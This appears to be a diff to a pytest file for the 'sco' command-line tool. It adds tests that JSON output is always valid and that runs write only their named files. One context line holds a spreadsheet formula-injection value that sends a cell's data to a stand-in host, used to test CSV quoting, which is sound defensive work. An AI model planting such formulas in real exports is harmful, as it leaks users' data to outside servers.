@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -159,8 +160,6 @@ FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
 
 def _office_with_formulas(tmp_path: Path) -> Path:
     """The examples, with text a spreadsheet would run in a field each CSV report shows."""
-    import shutil
-
     office = tmp_path / "office"
     shutil.copytree(EXAMPLES, office)
 
@@ -235,8 +234,6 @@ def test_the_one_csv_writer_quotes_text_only_and_the_rule_is_the_documented_one(
 
 @pytest.fixture
 def office_with_a_name_not_utf8(tmp_path: Path) -> Path:
-    import shutil
-
     office = tmp_path / "office"
     office.mkdir()
     for name in ("sco.yaml", "forecast.yaml", "lor-flawed.yaml", "eum.yaml"):
@@ -281,3 +278,124 @@ def test_a_file_name_that_is_not_utf8_never_crashes_and_json_gets_the_replacemen
         assert "eum\ufffd.yaml" in done.stdout.decode("utf-8").replace("\r\n ", "")
     elif "csv" in args or "github" in args:
         assert b"lor-flawed\xff.yaml" in done.stdout
+
+
+# (f) --format json is always JSON
+
+JSON_COMMANDS = [
+    ["check"],
+    ["lor", "check"],
+    ["student", "check"],
+    ["eum", "check"],
+    ["case", "status"],
+    ["calendar"],
+    ["brief"],
+    ["waivers", "list"],
+    ["javits", "report"],
+    ["forecast", "report"],
+    ["training", "prominence"],
+]
+
+
+@pytest.fixture(scope="module")
+def folders_with_nothing_to_report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
+    root = tmp_path_factory.mktemp("nothing")
+    folders = {name: root / name for name in ("empty", "empty-file", "binary", "other-kind", "no-prominence")}
+    for folder in folders.values():
+        folder.mkdir()
+    (folders["empty-file"] / "e.yaml").write_bytes(b"")
+    (folders["binary"] / "b.yaml").write_bytes(bytes(range(256)) * 3)
+    shutil.copy(EXAMPLES / "visits" / "useucom-j5.yaml", folders["other-kind"])
+    shutil.copy(EXAMPLES / "students" / "ready.yaml", folders["no-prominence"])
+    return folders
+
+
+@pytest.mark.parametrize("args", JSON_COMMANDS, ids=" ".join)
+def test_format_json_prints_one_json_object_whatever_the_files(sco, args, folders_with_nothing_to_report):
+    """`sco training prominence --format json` printed nothing (exit 1) with no student file, `sco javits
+    report` and `sco forecast report` nothing (exit 2, a usage error) with no register: a script asking for
+    JSON got none. Now every command that reads files prints its one JSON object (empty lists) whether the
+    folder is empty, holds an empty or a binary file, or only files of another kind; the stderr line and
+    exit 1 still say that nothing of the kind was found."""
+    for name, folder in folders_with_nothing_to_report.items():
+        result = sco(*args, folder, "--format", "json", "--as-of", AS_OF)
+        assert result.exit_code in (0, 1), (name, result.stderr)
+        payload = json.loads(result.stdout)
+        assert payload["sco_version"], name
+        assert len(result.stderr.splitlines()) <= 3, (name, result.stderr)
+
+
+def test_other_formats_write_no_empty_report_and_the_line_says_what_is_missing(sco, folders_with_nothing_to_report):
+    folder = folders_with_nothing_to_report["other-kind"]
+    for args, kind in ((["javits", "report"], "forecast"), (["training", "prominence"], "student")):
+        result = sco(*args, folder, "--as-of", AS_OF)
+        assert (result.exit_code, result.stdout) == (1, "")
+        assert result.stderr.splitlines() == [f"sco: no {kind} file (kind: {kind}) found in {folder}"]
+
+
+# (e) nothing written outside -o and the output folder
+
+
+def _tree(folder: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(folder)): p.read_bytes() if p.is_file() else b"/" for p in sorted(folder.rglob("*"))}
+
+
+AUDITED = [
+    (["check", "."], []),
+    (["check", ".", "--format", "sarif"], []),
+    (["budget", "justify", "budget-fmf.yaml", "-o", "out/justification.docx"], ["out/justification.docx"]),
+    (["ito", "generate", "students/ready.yaml", "-o", "out/itos"], ["out/itos/ITO-XS-P-IMT-2027-0101.docx"]),
+    (["cta", "generate", "lor-cta.yaml", "-o", "out/cta.md"], ["out/cta.md"]),
+    pytest.param(
+        ["ito", "generate", "students/ready.yaml", "-o", "out/pdf", "--format", "pdf"],
+        ["out/pdf/ITO-XS-P-IMT-2027-0101.pdf"],
+        marks=pytest.mark.skipif(not (shutil.which("soffice") or shutil.which("libreoffice")), reason="no LibreOffice"),
+    ),
+    (["eum", "inventory", "eum.yaml", "-o", "out/sheet.csv"], ["out/sheet.csv"]),
+    (["javits", "report", ".", "-o", "out/javits.docx", "--year", "2027"], ["out/javits.docx"]),
+    (["forecast", "report", ".", "--format", "md"], []),
+    (["training", "prominence", "graduates", "-o", "out/ppr.docx"], ["out/ppr.docx"]),
+    (["calendar", ".", "--format", "ics", "-o", "out/fy.ics", "--draft"], ["out/fy.ics"]),
+    (["brief", "."], []),
+    (["translation", "letter", "--help"], []),
+    (["templates", "export", "-o", "out/templates"], ["out/templates"]),
+    (["schema", "export", "-o", "out/schemas"], ["out/schemas"]),
+    (["init", "out/new-office"], ["out/new-office"]),
+    (["rules", "coverage"], []),
+]
+
+
+@pytest.mark.parametrize(("args", "written"), AUDITED, ids=lambda value: " ".join(value[:6]) or "-")
+def test_a_run_writes_only_its_output(args, written, tmp_path):
+    """Each command run with HOME, TMPDIR and the XDG folders pointed at empty watched folders, in a copy of
+    the example office: after the run the watched folders are empty again (matplotlib's cache, LibreOffice's
+    profile, temporary files all removed) and the office holds exactly what it held plus the named output.
+    `sco budget justify` wrote matplotlib's cache under $HOME (issue 20) before it got a private folder."""
+    office = tmp_path / "office"
+    shutil.copytree(EXAMPLES, office)
+    home, temporary = tmp_path / "home", tmp_path / "tmp"
+    home.mkdir()
+    temporary.mkdir()
+    before = _tree(office)
+    unset = ("XDG_CACHE_HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "MPLCONFIGDIR")  # so HOME is where they go
+    env = {k: v for k, v in os.environ.items() if k not in unset} | {"HOME": str(home), "TMPDIR": str(temporary)}
+    dated = [] if args[0] in NO_AS_OF else ["--as-of", AS_OF]
+    done = subprocess.run(
+        [sys.executable, "-P", "-m", "sco_cli.main", *args, *dated],
+        cwd=office,
+        env=env,
+        capture_output=True,
+        timeout=600,
+    )
+    assert done.returncode in (0, 1), done.stderr
+    assert b"internal error" not in done.stderr
+    assert list(home.rglob("*")) == [], "written under HOME"
+    assert list(temporary.rglob("*")) == [], "left in TMPDIR"
+    after = _tree(office)
+    new = {name for name in after if name not in before}
+    assert {name for name in new if not any(name == w or name.startswith(w + "/") for w in (*written, "out"))} == set()
+    assert all(name in after for name in written)
+    assert {name for name in before if before[name] != after.get(name)} == set(), "an office file changed"
+
+
+NO_AS_OF = {"templates", "schema", "init", "rules", "translation"}
